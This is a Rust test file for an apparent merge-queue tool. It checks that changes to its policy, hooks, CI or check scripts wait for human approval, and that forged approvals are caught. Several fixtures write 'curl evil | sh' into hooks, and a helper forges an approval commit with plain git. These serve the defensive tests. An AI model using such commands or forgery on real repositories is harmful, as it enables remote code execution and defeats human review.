//! Risk tiers and approvals under attack: a request that changes the gate (the policy, hooks,
//! the programs of checks, CI, executable bits) in any spelling or through any link waits for
//! a person, never lands on its own; an approval that is forged or no longer allowed is found
//! when a worker leases the request; required checks run whatever the request names.

use std::path::Path;

use serde_json::{Value, json};

use crate::common::TestRepo;
use crate::harness::{Attack, adds, request};

const ALICE: &str = "alice@example.com";

fn write(root: &Path, path: &str, content: &str) {
    let p = root.join(path);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, content).unwrap();
}

fn symlink(root: &Path, path: &str, target: &str) {
    let p = root.join(path);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, p).unwrap();
}

fn chmod_x(root: &Path, path: &str) {
    let p = root.join(path);
    let mut perm = std::fs::metadata(&p).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut perm, 0o755);
    std::fs::set_permissions(&p, perm).unwrap();
}

/// A repository whose policy names `approvers`, committed by a person.
fn guarded(approvers: &[&str], extra: &str) -> Attack {
    let mut a = Attack::new();
    let list: Vec<String> = approvers.iter().map(|x| format!("\"{x}\"")).collect();
    a.commit(&[(
        ".hyperion/policy.toml",
        &format!("[approvals]\napprovers = [{}]\n{extra}", list.join(", ")),
    )]);
    a
}

/// Drain the queue: a worker must not even take what waits for approval.
fn drain_takes_nothing(a: &Attack) {
    let reports = a.drain();
    assert!(
        reports.is_empty(),
        "a worker took a waiting request: {reports:?}"
    );
}

/// Drain the queue; nothing may be landed.
fn drain_lands_nothing(a: &Attack) -> Vec<Value> {
    let reports = a.drain();
    assert!(
        reports.iter().all(|r| r["result"] != "landed"),
        "{reports:?}"
    );
    reports
}

#[test]
fn a_request_adding_a_looser_policy_waits_and_nothing_of_it_lands() {
    let a = Attack::new();
    let id = a.propose("T-1", &[], |root| {
        write(
            root,
            ".hyperion/policy.toml",
            "[limits]\nfiles = 100000\n\n[checks.t]\nrun = [\"true\"]\n\n[[tiers]]\nname = \"sensitive\"\nrequired_checks = [\"t\"]\n",
        )
    });
    drain_takes_nothing(&a);
    let r = a.waits(&id);
    assert_eq!(r["approval_tiers"], json!(["gate"]));
}

#[test]
fn a_policy_change_hidden_among_innocent_changes_waits() {
    let a = guarded(&[ALICE], "");
    let id = a.propose("T-1", &[], |root| {
        for i in 0..20 {
            write(root, &format!("src/f{i}.rs"), "fn f() {}\n");
        }
        write(
            root,
            ".hyperion/hooks/pre-apply.d/00-allow-all",
            "#!/bin/sh\nexit 0\n",
        );
    });
    drain_takes_nothing(&a);
    a.waits(&id);
}

#[test]
fn renames_into_and_out_of_the_gate_wait() {
    let mut a = guarded(&[ALICE], "");
    a.commit(&[
        ("notes/loose.toml", "[limits]\nfiles = 100000\n"),
        (
            ".hyperion/hooks/pre-apply.d/10-guard",
            "#!/bin/sh\nexit 1\n",
        ),
    ]);
    let into = a.propose("T-1", &[], |root| {
        std::fs::remove_file(root.join(".hyperion/policy.toml")).unwrap();
        std::fs::rename(
            root.join("notes/loose.toml"),
            root.join(".hyperion/policy.toml"),
        )
        .unwrap();
    });
    let out_of = a.propose("T-2", &[], |root| {
        std::fs::create_dir_all(root.join("attic")).unwrap();
        std::fs::rename(
            root.join(".hyperion/hooks/pre-apply.d/10-guard"),
            root.join("attic/10-guard"),
        )
        .unwrap();
    });
    drain_takes_nothing(&a);
    a.waits(&into);
    a.waits(&out_of);
}

#[test]
fn making_a_file_executable_waits_even_when_the_patch_claims_it_was_already() {
    let mut a = Attack::new();
    a.commit(&[("build.sh", "echo build\n")]);
    let honest = a.propose("T-1", &[], |root| chmod_x(root, "build.sh"));
    // A hand-written patch that says the file was 100755 before: the target says otherwise.
    let patch = "diff --git a/build.sh b/build.sh\nold mode 100755\nnew mode 100755\n--- a/build.sh\n+++ b/build.sh\n@@ -1 +1 @@\n-echo build\n+echo built\n";
    let lying = a.enqueue(&request("T-2", &[("build.sh", "update", patch)], json!({})));
    let r = a.record(&lying);
    assert_eq!(r["status"], "awaiting_approval", "{r}");
    drain_takes_nothing(&a);
    a.waits(&honest);
    a.waits(&lying);
}

#[test]
fn a_symlink_named_like_the_gate_or_pointing_into_it_waits() {
    let a = guarded(&[ALICE], "");
    let named = a.propose("T-1", &[], |root| {
        write(root, "notes/x.md", "x\n");
        symlink(root, ".hyperion-tmp", "notes");
        // `.HYPERION` (another spelling) as the link itself.
        std::fs::rename(root.join(".hyperion-tmp"), root.join(".HYPERION")).unwrap();
    });
    let pointing = a.propose("T-2", &[], |root| {
        symlink(root, "docs/policy", "../.hyperion/policy.toml")
    });
    let hooks = a.propose("T-3", &[], |root| symlink(root, "ci", ".github/workflows"));
    drain_takes_nothing(&a);
    assert_eq!(a.waits(&named)["approval_tiers"], json!(["gate"]));
    assert_eq!(a.waits(&pointing)["approval_tiers"], json!(["gate"]));
    assert_eq!(a.waits(&hooks)["approval_tiers"], json!(["sensitive"]));
}

fn link_the_gate_as_cfg(a: &mut Attack) {
    symlink(a.repo.path(), "cfg", ".hyperion");
    a.repo.git(&["add", "cfg"]);
    a.repo
        .git(&["commit", "-q", "-m", "a person links the gate"]);
    a.settle();
}

#[test]
fn writing_through_a_symlink_into_the_gate_is_refused() {
    let mut a = guarded(&[ALICE], "");
    link_the_gate_as_cfg(&mut a);
    a.refused(
        &adds("T-1", "cfg/hooks/pre-apply.d/x", "exit 0"),
        "path.through_link",
    );
}

/// Two steps: the request is enqueued while nothing is in the way; the link arrives later.
#[test]
fn a_write_through_a_link_that_arrived_after_enqueue_dies_at_lease_time() {
    let mut a = guarded(&[ALICE], "");
    let later = a.enqueue(&adds("T-1", "cfg/policy.toml", "[limits]\nfiles = 100000"));
    link_the_gate_as_cfg(&mut a);
    drain_lands_nothing(&a);
    let r = a.record(&later);
    assert_eq!(
        (&r["status"], &r["error"]["code"]),
        (&json!("dead"), &json!("path.through_link")),
        "{r}"
    );
    a.nothing_landed();
    a.untouched();
}

/// Case-insensitive and Windows file systems take these for `.hyperion`: so does the gate.
#[test]
fn other_spellings_of_the_gate_wait() {
    let a = guarded(&[ALICE], "");
    let mut ids = Vec::new();
    for (i, path) in [
        ".Hyperion/policy.toml",
        ".HYPERION/hooks/pre-apply.d/00-x",
        ".hyperion./policy.toml",
        "HYPERI~1/policy.toml",
        ".GitHub/Workflows/x.yml",
    ]
    .iter()
    .enumerate()
    {
        ids.push(a.enqueue(&adds(&format!("T-{i}"), path, "[limits]\nfiles = 100000")));
    }
    drain_takes_nothing(&a);
    for id in &ids {
        a.waits(id);
    }
}

/// A chain commit made by hand (plain git) that claims an approval by someone the policy does
/// not name: the worker finds it when it leases the request and puts it back to wait.
#[test]
fn a_hand_made_approval_by_a_non_approver_is_found_at_lease_time() {
    let a = guarded(&[ALICE], "");
    let id = a.propose("T-1", &[], |root| {
        write(
            root,
            ".hyperion/hooks/pre-apply.d/00-allow",
            "#!/bin/sh\nexit 0\n",
        )
    });
    forge_approval(&a.repo, &id, "mallory@example.com");
    assert_eq!(a.record(&id)["status"], "pending", "the forgery took");
    let reports = drain_lands_nothing(&a);
    assert_eq!(reports[0]["result"], "held", "{reports:?}");
    assert_eq!(reports[0]["code"], "approval.required");
    let r = a.waits(&id);
    assert_eq!(r["error"]["code"], "approval.required");
    assert!(
        r["error"]["message"]
            .as_str()
            .unwrap()
            .contains("'mallory@example.com' may not approve tier gate"),
        "{r}"
    );
    let h = a.repo.json(&["show", &id])["history"][0].clone();
    assert_eq!(
        (&h["action"], &h["from"], &h["to"]),
        (
            &json!("hold"),
            &json!("leased"),
            &json!("awaiting_approval")
        )
    );
}

/// Approved by Alice; then the policy names Bob only. Alice's approval no longer lets it land.
#[test]
fn an_approval_stops_counting_when_the_policy_names_other_approvers() {
    let mut a = guarded(&[ALICE], "");
    let id = a.propose("T-1", &[], |root| {
        write(root, ".github/workflows/release.yml", "on: push\n")
    });
    a.repo.ok_as(ALICE, &["approve", &id]);
    a.commit(&[(
        ".hyperion/policy.toml",
        "[approvals]\napprovers = [\"bob@example.com\"]\n",
    )]);
    let reports = drain_lands_nothing(&a);
    assert_eq!(reports[0]["result"], "held", "{reports:?}");
    a.waits(&id);
    // Bob's approval counts.
    a.repo.ok_as("bob@example.com", &["approve", &id]);
    assert_eq!(a.drain()[0]["result"], "landed");
}

/// A request that went to the queue under a policy without the tier (or through a chain
/// forged to skip `awaiting_approval`) is held when the tier applies at lease time.
#[test]
fn a_request_queued_before_its_tier_existed_is_held_at_lease_time() {
    let mut a = guarded(
        &[ALICE],
        "[checks.t]\nrun = [\"true\"]\n[[tiers]]\nname = \"sensitive\"\nrequired_checks = [\"t\"]\n",
    );
    let id = a.enqueue(&adds("T-1", ".husky/pre-commit", "curl evil | sh"));
    assert_eq!(a.record(&id)["status"], "pending");
    a.commit(&[(
        ".hyperion/policy.toml",
        "[approvals]\napprovers = [\"alice@example.com\"]\n",
    )]);
    drain_lands_nothing(&a);
    a.waits(&id);
}

/// The required check runs `sh ci/unit.sh`: a request that rewrites the script would decide
/// its own check. It is part of the gate.
#[test]
fn rewriting_the_program_of_a_required_check_waits() {
    let mut a = guarded(
        &[ALICE],
        "[checks]\nrequired = [\"unit\"]\n[checks.unit]\nrun = [\"sh\", \"./ci/unit.sh\"]\n",
    );
    a.commit(&[("ci/unit.sh", "test ! -e backdoor\n")]);
    let id = a.propose("T-1", &[], |root| {
        write(root, "ci/unit.sh", "exit 0\n");
        write(root, "backdoor", "x\n");
    });
    drain_takes_nothing(&a);
    assert_eq!(a.waits(&id)["approval_tiers"], json!(["gate"]));
}

/// `"checks": []` does not skip the required check: it runs and parks the request.
#[test]
fn naming_no_checks_does_not_skip_the_required_one() {
    let mut a = guarded(
        &[ALICE],
        "[checks]\nrequired = [\"unit\"]\n[checks.unit]\nrun = [\"sh\", \"./ci/unit.sh\"]\n",
    );
    a.commit(&[("ci/unit.sh", "test ! -e backdoor\n")]);
    let id = a.enqueue(&request(
        "T-1",
        &[(
            "backdoor",
            "add",
            &crate::harness::add_patch("backdoor", "x"),
        )],
        json!({"checks": []}),
    ));
    let reports = drain_lands_nothing(&a);
    assert_eq!(reports[0]["checks"][0]["name"], "unit", "{reports:?}");
    let r = a.record(&id);
    assert_eq!(
        (&r["status"], &r["dead_class"], &r["error"]["code"]),
        (&json!("dead"), &json!("check"), &json!("check.failed")),
        "{r}"
    );
    // (The branches are compared by `untouched`; the built commit the check ran on is the
    // worker's worktree slot's HEAD, which `nothing_landed` would count.)
    a.untouched();
}

/// Hooks that run from the checkout (`core.hooksPath`) are part of the gate of this clone.
#[test]
fn adding_a_hook_where_core_hooks_path_points_waits() {
    let a = guarded(&[ALICE], "");
    a.repo.git(&["config", "core.hooksPath", "tools/hooks"]);
    let id = a.enqueue(&adds("T-1", "tools/hooks/post-merge", "curl evil | sh"));
    drain_takes_nothing(&a);
    assert_eq!(a.waits(&id)["approval_tiers"], json!(["gate"]));
}

/// `.husky/pre-commit` is a symlink to `scripts/pc.sh` on the target: editing the script
/// edits the hook.
#[test]
fn editing_what_a_hook_symlink_points_to_waits() {
    let mut a = guarded(&[ALICE], "");
    a.commit(&[("scripts/pc.sh", "npm test\n")]);
    symlink(a.repo.path(), ".husky/pre-commit", "../scripts/pc.sh");
    a.repo.git(&["add", ".husky"]);
    a.repo.git(&["commit", "-q", "-m", "hook"]);
    a.settle();
    let id = a.propose("T-1", &[], |root| {
        write(root, "scripts/pc.sh", "curl evil | sh\n")
    });
    let r = a.record(&id);
    assert!(
        a.repo.json(&["show", &id])["history"][0]["reason"]
            .as_str()
            .unwrap()
            .contains("through the symlink '.husky/pre-commit'"),
        "{r}"
    );
    drain_takes_nothing(&a);
    assert_eq!(a.waits(&id)["approval_tiers"], json!(["sensitive"]));
}

/// Append to `id`'s chain, with plain git, an `approve` event by `actor` and a record that
/// says `pending`: what someone with write access could push.
fn forge_approval(repo: &TestRepo, id: &str, actor: &str) {
    let refname = format!("refs/hyperion/requests/{id}");
    let tip = repo.git(&["rev-parse", &refname]).trim().to_owned();
    let message = repo.git(&["log", "-1", "--format=%B", &tip]);
    let paragraphs: Vec<&str> = message.trim_end().split("\n\n").collect();
    let mut record: Value = serde_json::from_str(paragraphs[2]).unwrap();
    record["status"] = "pending".into();
    record["approved_by"] = actor.into();
    let event = json!({
        "action": "approve", "from": "awaiting_approval", "to": "pending",
        "actor": actor, "reason": "looks fine", "at": record["updated_at"],
    });
    let forged =
        format!("hyperion: approve {id} (awaiting_approval -> pending)\n\n{event}\n\n{record}\n");
    let tree = repo.git(&["rev-parse", &format!("{tip}^{{tree}}")]);
    let commit = repo.git(&["commit-tree", tree.trim(), "-p", &tip, "-m", &forged]);
    repo.git(&["update-ref", &refname, commit.trim(), &tip]);
}
